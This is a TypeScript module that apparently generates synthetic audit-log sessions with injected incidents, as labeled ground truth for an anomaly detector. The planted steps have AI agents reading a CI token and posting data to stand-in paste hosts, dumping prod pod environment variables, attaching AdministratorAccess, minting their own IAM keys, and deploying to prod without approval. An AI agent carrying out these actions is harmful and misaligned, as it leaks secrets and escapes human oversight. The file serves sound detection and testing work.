import { uuid7, type Rng } from './rng.js';
import {
  argoStatus,
  argoSync,
  checkPolls,
  codingAgentSession,
  dataPipelineSession,
  GITHUB_API,
  legacySyncSession,
  newRelease,
  releaseCommit,
  releasePush,
  supportSession,
} from './normal-sessions.js';
import type { DemoIdentityId } from './personas.js';
import { res, step, type Script, type ScriptCtx, type Step } from './session-script.js';
import { INCIDENT_KINDS, type IncidentKind } from './types.js';

/**
 * Injected incidents: a plausible session of some identity with one step that should not be
 * there (a tool it never uses, egress after a secret read, a prod deploy nobody approved, any
 * activity of a revoked identity, a key it created for itself), sometimes with the steps that
 * follow from it (a second upload, the work done with the new key). That one step carries the
 * incident kind as ground truth.
 */

interface IncidentVariant {
  kind: IncidentKind;
  identity: DemoIdentityId;
  build: Script;
}

/** Inserts `extra` somewhere after the first step, where it blends into the session. */
function inject(steps: Step[], extra: Step, rng: Rng): Step[] {
  const at = rng.int(1, steps.length);
  return [...steps.slice(0, at), extra, ...steps.slice(at)];
}

// Hosts whose registrable domain is the paste site itself (`hastebin-mirror.example`, not
// `example.org`): new-egress findings are about registrable domains.
const EXFIL_HOSTS = [
  'paste.demo-drop.net',
  'hastebin-mirror.example',
  'files.tmpshare-demo.io',
  'gist-cache.example',
];

/** Paste sites that hand every upload its own random subdomain. */
const PASTE_SITES = ['paste-site.example', 'demo-drop.net', 'tmpshare-demo.io'];

function exfiltration(ctx: ScriptCtx): Step {
  const base = ctx.rng.pick(EXFIL_HOSTS);
  const host = ctx.rng.chance(0.5) ? `${ctx.rng.hex(6)}.${base}` : base;
  const url = `https://${host}/api/v1/documents`;
  return step('http.post', ctx.gap(), {
    resource: res('url', url),
    target_domain: host,
    args: {
      url,
      method: 'POST',
      content_type: 'text/plain',
      body_bytes: ctx.rng.int(2_000, 200_000),
      user_agent: 'python-requests/2.32.3',
    },
    incident: 'new_egress_after_secret_read',
  });
}

/** An upload to a fresh random subdomain of `site` (paste sites give each paste its own host). */
function pastePost(ctx: ScriptCtx, site: string, incident?: IncidentKind): Step {
  const host = `${ctx.rng.hex(8)}.${site}`;
  const url = `https://${host}/upload`;
  return step('http.post', ctx.gap(), {
    outcome: 'success',
    resource: res('url', url),
    target_domain: host,
    args: {
      url,
      method: 'POST',
      content_type: 'application/octet-stream',
      body_bytes: ctx.rng.int(200, 4_000),
      user_agent: 'node-fetch/3.3.2',
    },
    ...(incident ? { incident } : {}),
  });
}

/**
 * coding-agent, in the middle of an ordinary run, reads a CI token from Vault (a secret it never
 * reads) and posts it to a paste site, then once more later in the run to another random
 * subdomain of the same site: one new-egress finding about the site, listing both hosts.
 */
function secretToPasteSubdomains(ctx: ScriptCtx): Step[] {
  const run = codingAgentSession(ctx);
  const at = ctx.rng.int(1, run.length - 1);
  const site = ctx.rng.pick(PASTE_SITES);
  const read = step('vault.read', ctx.gap(), {
    outcome: 'success',
    resource: res('secret', 'kv/ci/npm-publish-token'),
    args: {
      mount: 'kv',
      path: 'ci/npm-publish-token',
      version: ctx.rng.int(1, 4),
      accessor: `hmac-sha256:${ctx.rng.hex(64)}`,
      request_id: uuid7(ctx.startMs, ctx.rng),
    },
  });
  return [
    ...run.slice(0, at),
    read,
    pastePost(ctx, site, 'new_egress_after_secret_read'),
    ...run.slice(at),
    pastePost(ctx, site),
  ];
}

const NEW_TOOL_STEPS = {
  'support-agent': (ctx: ScriptCtx): Step =>
    step('iam.create_access_key', ctx.gap(), {
      resource: res('iam_user', 'arn:aws:iam::123456789012:user/support-agent'),
      target_domain: 'iam.amazonaws.com',
      args: { UserName: 'support-agent', reason: 'need programmatic access to fetch attachments' },
      incident: 'new_tool',
    }),
  'coding-agent': (ctx: ScriptCtx): Step =>
    step('kubectl.exec', ctx.gap(), {
      resource: res('k8s_pod', `prod/api-${ctx.rng.hex(10)}`),
      target_domain: 'k8s.prod.internal.acme.dev',
      args: { namespace: 'prod', container: 'api', command: ['sh', '-c', 'env | sort'], tty: false },
      incident: 'new_tool',
    }),
  'data-pipeline': (ctx: ScriptCtx): Step =>
    step('iam.attach_role_policy', ctx.gap(), {
      resource: res('iam_role', 'arn:aws:iam::123456789012:role/data-pipeline'),
      target_domain: 'iam.amazonaws.com',
      args: { RoleName: 'data-pipeline', PolicyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' },
      incident: 'new_tool',
    }),
} as const;

/** commit → push → prod deploy with no approval at all. */
function unapprovedProdDeploy(ctx: ScriptCtx): Step[] {
  const r = newRelease(ctx);
  return [
    releaseCommit(ctx, r),
    releasePush(ctx, r),
    ...checkPolls(ctx, r, 0, 1),
    { ...argoSync(ctx, r, 'prod'), incident: 'deploy_without_approval' },
    argoStatus(ctx, r, 'prod'),
  ];
}

/**
 * coding-agent ships its own change: commit, push to main and a prod sync with no approval
 * and no test run at all (it never pushes or deploys otherwise).
 */
function codingAgentShipsToProd(ctx: ScriptCtx): Step[] {
  const r = { ...newRelease(ctx), repo: 'acme/api', name: 'api' };
  const repo = res('repo', 'acme/api');
  const path = ctx.rng.pick(['api/routes/orders.py', 'api/pagination.py', 'api/webhooks/sender.py']);
  const message = `fix: ${ctx.rng.pick(['pagination off by one', 'webhook retry backoff', 'order totals rounding'])}`;
  return [
    step('repo.search', ctx.gap(), {
      resource: repo,
      args: {
        repo: 'acme/api',
        query: 'def ',
        path_glob: 'api/**/*.py',
        case_sensitive: false,
        max_results: 20,
      },
    }),
    step('repo.read_file', ctx.gap(), {
      resource: res('file', `acme/api:${path}`),
      args: { repo: 'acme/api', path, ref: 'main', start_line: 1, end_line: ctx.rng.int(80, 400) },
    }),
    step('git.commit', ctx.gap(), {
      outcome: 'success',
      resource: repo,
      args: {
        branch: 'main',
        message,
        parent: r.parent,
        files: [path],
        author: 'coding-agent <coding-agent@acme.dev>',
      },
    }),
    step('git.push', ctx.gap(), {
      outcome: 'success',
      resource: repo,
      target_domain: GITHUB_API,
      args: {
        remote: 'git@github.com:acme/api.git',
        refspec: 'refs/heads/main:refs/heads/main',
        before: r.parent,
        after: r.sha,
      },
    }),
    { ...argoSync(ctx, r, 'prod'), outcome: 'success', incident: 'deploy_without_approval' },
    argoStatus(ctx, r, 'prod'),
  ];
}

/**
 * data-pipeline mints itself a long-lived IAM access key partway through an ordinary run and
 * does the rest of the run with it: persistence, and a credential nobody registered.
 */
function pipelineMintsOwnKey(ctx: ScriptCtx): Step[] {
  const run = dataPipelineSession(ctx);
  // After the secret read and the first partition read.
  const at = ctx.rng.int(2, run.length - 1);
  const key = `akid:fp-${ctx.rng.hex(12)}`;
  const create = step('iam.create_access_key', ctx.gap(), {
    outcome: 'success',
    resource: res('access_key', key),
    target_domain: 'iam.amazonaws.com',
    args: { UserName: 'svc-data-pipeline', Status: 'Active' },
    incident: 'credential_created_then_used',
  });
  return [...run.slice(0, at), create, ...run.slice(at).map((s) => ({ ...s, credential: key }))];
}

const INCIDENT_VARIANTS: readonly IncidentVariant[] = [
  {
    kind: 'new_tool',
    identity: 'support-agent',
    build: (ctx) => inject(supportSession(ctx), NEW_TOOL_STEPS['support-agent'](ctx), ctx.rng),
  },
  {
    kind: 'new_tool',
    identity: 'coding-agent',
    build: (ctx) => inject(codingAgentSession(ctx), NEW_TOOL_STEPS['coding-agent'](ctx), ctx.rng),
  },
  {
    kind: 'new_tool',
    identity: 'data-pipeline',
    build: (ctx) => inject(dataPipelineSession(ctx), NEW_TOOL_STEPS['data-pipeline'](ctx), ctx.rng),
  },
  // The pipeline's sessions open with its secret read, so any later position follows it.
  {
    kind: 'new_egress_after_secret_read',
    identity: 'data-pipeline',
    build: (ctx) => inject(dataPipelineSession(ctx), exfiltration(ctx), ctx.rng),
  },
  {
    kind: 'new_egress_after_secret_read',
    identity: 'coding-agent',
    build: secretToPasteSubdomains,
  },
  { kind: 'deploy_without_approval', identity: 'release-bot', build: unapprovedProdDeploy },
  { kind: 'deploy_without_approval', identity: 'coding-agent', build: codingAgentShipsToProd },
  { kind: 'credential_created_then_used', identity: 'data-pipeline', build: pipelineMintsOwnKey },
  {
    kind: 'revoked_identity_activity',
    identity: 'legacy-sync',
    build: (ctx) =>
      legacySyncSession(ctx).map((s, i) => (i === 0 ? { ...s, incident: 'revoked_identity_activity' } : s)),
  },
];

const VARIANTS_BY_KIND: Readonly<Record<IncidentKind, readonly IncidentVariant[]>> = {
  new_tool: INCIDENT_VARIANTS.filter((v) => v.kind === 'new_tool'),
  new_egress_after_secret_read: INCIDENT_VARIANTS.filter((v) => v.kind === 'new_egress_after_secret_read'),
  deploy_without_approval: INCIDENT_VARIANTS.filter((v) => v.kind === 'deploy_without_approval'),
  revoked_identity_activity: INCIDENT_VARIANTS.filter((v) => v.kind === 'revoked_identity_activity'),
  credential_created_then_used: INCIDENT_VARIANTS.filter((v) => v.kind === 'credential_created_then_used'),
};

/**
 * A random incident to replace a session with. Kinds are equally likely, however many variants
 * each has; then one variant of the drawn kind.
 */
export function pickIncident(rng: Rng): IncidentVariant {
  return rng.pick(VARIANTS_BY_KIND[rng.pick(INCIDENT_KINDS)]);
}
